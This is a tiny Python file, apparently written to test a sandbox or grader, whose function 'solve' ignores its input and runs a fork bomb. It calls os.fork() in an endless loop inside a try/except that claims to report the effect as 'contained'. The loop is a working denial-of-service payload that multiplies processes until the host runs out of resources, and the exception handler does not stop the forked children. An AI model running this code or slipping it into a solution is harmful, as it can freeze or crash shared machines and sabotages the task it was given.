"""Fork bomb: every process forks again, forever."""
import os


def solve(n):
    try:
        while True:
            os.fork()
    except BaseException as exc:
        return f"contained: {type(exc).__name__}"
